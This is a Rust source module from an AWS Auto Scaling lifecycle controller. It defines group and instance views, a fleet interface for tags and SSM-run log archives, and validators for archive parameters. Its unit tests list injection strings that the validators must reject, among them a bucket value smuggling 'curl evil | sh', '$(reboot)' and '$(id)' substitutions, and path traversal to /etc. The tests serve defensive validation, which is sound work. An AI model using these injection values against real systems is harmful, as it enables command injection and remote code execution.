//! What the controller needs of AWS beyond one instance's lifecycle calls: the managed groups
//! with their hooks and waiting instances, the lifecycle states of many instances at once, and
//! the marks (tags) on instances that replicas share.

use std::collections::HashMap;
use std::future::Future;

pub use lifeguard_common::lifecycle::{AutoScaling, Completion, HookInfo, LifecycleError};
use lifeguard_common::message::Transition;

use crate::marks::Marks;

mod aws;
mod coalesce;
pub(crate) use aws::{fleet_error, group_tags};

pub use aws::AwsFleet;

/// `DescribeAutoScalingInstances` takes at most 50 instance ids a call.
pub const DESCRIBE_BATCH: usize = 50;

/// A group as the controller sees it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GroupView {
    pub name: String,
    pub tags: HashMap<String, String>,
    pub hooks: Vec<HookInfo>,
    /// Instances held by a lifecycle hook (`Pending:Wait`, `Terminating:Wait`).
    pub waiting: Vec<(String, Transition)>,
}

impl GroupView {
    /// The hook of `transition` named `name`, or the group's only hook of that transition.
    pub fn hook(&self, transition: Transition, name: Option<&str>) -> Option<&HookInfo> {
        let mut matching = self.hooks.iter().filter(|h| h.transition == transition);
        match name {
            Some(name) => matching.find(|h| h.name == name),
            None => {
                let first = matching.next();
                if matching.next().is_some() {
                    None
                } else {
                    first
                }
            }
        }
    }
}

/// An instance's place in its group.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstanceState {
    pub asg: String,
    pub lifecycle_state: String,
}

impl InstanceState {
    /// Held by a hook of `transition`.
    pub fn waits_for(&self, transition: Transition) -> bool {
        match transition {
            Transition::Launching => self.lifecycle_state == "Pending:Wait",
            Transition::Terminating => self.lifecycle_state == "Terminating:Wait",
        }
    }
}

/// An instance carrying drain marks, for `status`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MarkedInstance {
    pub instance_id: String,
    pub asg: Option<String>,
    /// EC2's state: `running`, `shutting-down`, `terminated`, ...
    pub ec2_state: String,
    pub marks: Marks,
}

/// How an agentless archive's command stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ArchiveState {
    Running,
    Ended { succeeded: bool, status: String },
}

/// An agentless archive to run on an instance. The document writes it to
/// `{directory}/{principal}/{name}`, `principal` being the instance role session's id
/// (`aws:userid`), which only the instance itself can learn (STS GetCallerIdentity) and the
/// level of the key the agent's IAM policy confines each instance to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArchiveCommand {
    pub bucket: String,
    /// `lifeguard/GROUP/INSTANCE`.
    pub directory: String,
    /// `YYYYMMDDTHHMMSSZ-agentless.tar.gz`.
    pub name: String,
    pub paths: Vec<String>,
    pub timeout: std::time::Duration,
}

impl ArchiveCommand {
    /// Whether every value matches what lifeguard's SSM document accepts
    /// (`packaging/ssm/lifeguard-ArchiveLogs.json`).
    pub fn check(&self) -> Result<(), String> {
        if !crate::config::is_bucket_name(&self.bucket) {
            return Err(format!("{:?} is not an S3 bucket name", self.bucket));
        }
        if !is_archive_directory(&self.directory) {
            return Err(format!(
                "{:?} is not an agentless archive directory",
                self.directory
            ));
        }
        if !is_archive_name(&self.name) {
            return Err(format!("{:?} is not an agentless archive name", self.name));
        }
        if self.paths.is_empty()
            || self.paths.len() > crate::config::MAX_AGENTLESS_PATHS
            || !self.paths.iter().all(|p| crate::config::is_plain_path(p))
        {
            return Err(format!("{:?} are not plain absolute paths", self.paths));
        }
        Ok(())
    }
}

/// `lifeguard/GROUP/INSTANCE`, GROUP of 1 to 255 `[A-Za-z0-9._-]`.
fn is_archive_directory(directory: &str) -> bool {
    let Some(rest) = directory.strip_prefix("lifeguard/") else {
        return false;
    };
    let parts: Vec<&str> = rest.split('/').collect();
    let [group, instance] = parts.as_slice() else {
        return false;
    };
    (1..=255).contains(&group.len())
        && group
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
        && is_instance_id(instance)
}

/// `YYYYMMDDTHHMMSSZ-agentless.tar.gz`.
fn is_archive_name(name: &str) -> bool {
    let stamp = name
        .strip_suffix("-agentless.tar.gz")
        .unwrap_or_default()
        .as_bytes();
    let digits = |s: &[u8]| s.iter().all(|b| b.is_ascii_digit());
    stamp.len() == 16
        && digits(&stamp[..8])
        && stamp[8] == b'T'
        && digits(&stamp[9..15])
        && stamp[15] == b'Z'
}

/// `i-` and 8 or 17 hexadecimal digits, as EC2 names instances.
pub fn is_instance_id(id: &str) -> bool {
    id.strip_prefix("i-").is_some_and(|hex| {
        (8..=17).contains(&hex.len())
            && hex
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

#[derive(Debug, Clone, thiserror::Error)]
#[error("{operation} {subject}: {message}")]
pub struct FleetError {
    pub operation: &'static str,
    /// The group or instances the call was about.
    pub subject: String,
    pub message: String,
    pub transient: bool,
    /// The AWS error code, for metrics.
    pub code: Option<String>,
}

pub trait Fleet: Send + Sync + 'static {
    /// Lifecycle calls about one instance (heartbeat, complete).
    type Lifecycle: AutoScaling;

    fn lifecycle(&self) -> &Self::Lifecycle;

    /// The groups tagged `tag` (any value) plus the groups named in `names`.
    fn groups(
        &self,
        tag: &str,
        names: &[String],
    ) -> impl Future<Output = Result<Vec<GroupView>, FleetError>> + Send;

    /// One group, `None` if it does not exist.
    fn group(
        &self,
        name: &str,
    ) -> impl Future<Output = Result<Option<GroupView>, FleetError>> + Send;

    /// The lifecycle states of `instance_ids` (in batches of [`DESCRIBE_BATCH`]); instances in
    /// no group are left out.
    fn states(
        &self,
        instance_ids: &[String],
    ) -> impl Future<Output = Result<HashMap<String, InstanceState>, FleetError>> + Send;

    /// The marks of `instance_ids` (instances without any are left out).
    fn marks(
        &self,
        instance_ids: &[String],
    ) -> impl Future<Output = Result<HashMap<String, Marks>, FleetError>> + Send;

    /// Writes marks on one instance (tag keys and values from [`crate::marks`]).
    fn set_marks(
        &self,
        instance_id: &str,
        tags: &[(&'static str, String)],
    ) -> impl Future<Output = Result<(), FleetError>> + Send;

    /// Sends the agentless archive to the instance (SSM Run Command); the command id.
    fn start_archive(
        &self,
        instance_id: &str,
        archive: &ArchiveCommand,
    ) -> impl Future<Output = Result<String, FleetError>> + Send;

    /// Where the archive's command on the instance stands.
    fn archive_state(
        &self,
        instance_id: &str,
        command_id: &str,
    ) -> impl Future<Output = Result<ArchiveState, FleetError>> + Send;

    /// Instances carrying an action mark, of one group or all.
    fn marked_instances(
        &self,
        group: Option<&str>,
    ) -> impl Future<Output = Result<Vec<MarkedInstance>, FleetError>> + Send;
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;

    fn command() -> ArchiveCommand {
        ArchiveCommand {
            bucket: "fleet-logs".into(),
            directory: "lifeguard/web_1/i-0123456789abcdef0".into(),
            name: "20261203T101500Z-agentless.tar.gz".into(),
            paths: vec!["/var/log".into(), "/srv/app/log".into()],
            timeout: Duration::from_secs(300),
        }
    }

    #[test]
    fn only_values_the_ssm_document_accepts_are_sent() {
        assert_eq!(command().check(), Ok(()));
        let hostile = [
            ArchiveCommand {
                bucket: "x'; curl evil | sh; echo '".into(),
                ..command()
            },
            ArchiveCommand {
                name: "$(reboot)-agentless.tar.gz".into(),
                ..command()
            },
            ArchiveCommand {
                directory: "lifeguard/web/i-0123$(id)".into(),
                ..command()
            },
            ArchiveCommand {
                directory: "lifeguard/web/i-0123456789abcdef0/AROA:i-0other".into(),
                ..command()
            },
            ArchiveCommand {
                name: "2026120ÄT10150Z-agentless.tar.gz".into(),
                ..command()
            },
            ArchiveCommand {
                name: "x/20261203T101500Z-agentless.tar.gz".into(),
                ..command()
            },
            ArchiveCommand {
                paths: vec!["/var/log /etc".into()],
                ..command()
            },
            ArchiveCommand {
                paths: vec!["/var/log/../../etc".into()],
                ..command()
            },
            ArchiveCommand {
                paths: Vec::new(),
                ..command()
            },
        ];
        for bad in hostile {
            assert!(bad.check().is_err(), "{bad:?}");
        }
    }

    #[test]
    fn instance_ids_are_ec2_shaped() {
        assert!(is_instance_id("i-0123456789abcdef0"));
        assert!(is_instance_id("i-01234567"));
        assert!(!is_instance_id("i-0123456789ABCDEF0"));
        assert!(!is_instance_id("i-;reboot"));
        assert!(!is_instance_id("0123456789"));
    }
}
